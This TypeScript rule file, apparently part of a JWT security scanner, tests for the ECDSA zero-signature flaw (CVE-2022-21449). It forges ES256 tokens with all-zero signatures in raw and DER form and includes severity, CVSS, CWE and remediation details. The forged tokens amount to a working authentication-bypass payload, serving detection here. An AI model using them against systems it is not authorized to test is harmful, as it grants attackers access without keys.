import { assembleJwt, defineTokenForgery } from '../../rule/index.ts'

/** r = s = 0 as raw values and as DER; a correct verifier refuses values outside [1, n − 1] (FIPS 186-5 §6.4.2). */
const raw = Buffer.alloc(64).toString('base64url')
const der = Buffer.from('3006020100020100', 'hex').toString('base64url')

export default defineTokenForgery({
  id: 'jwt-zero-signature',
  title: 'An elliptic-curve signature of zeros is accepted',
  severity: 'critical',
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N',
  cwe: [347],
  why: 'The library does not check that the numbers of the signature are in range, so that zeros fit every message and key. Anybody signs any token without a key.',
  fix: 'Update the runtime (in Java 15 to 18 this is CVE-2022-21449) or the library that verifies ECDSA.',
  controls: ['cryptography', 'authentication'],
  forgeries: (context, jwt) =>
    [raw, der].map((signature) => ({
      label: 'with algorithm ES256 and a signature of zeros',
      token: assembleJwt({ ...jwt.header, alg: 'ES256' }, jwt.claims, signature),
      control: assembleJwt(
        { ...jwt.header, alg: 'ES256' },
        jwt.claims,
        Buffer.from(context.unique().padEnd(64, 'x')).toString('base64url'),
      ),
    })),
})
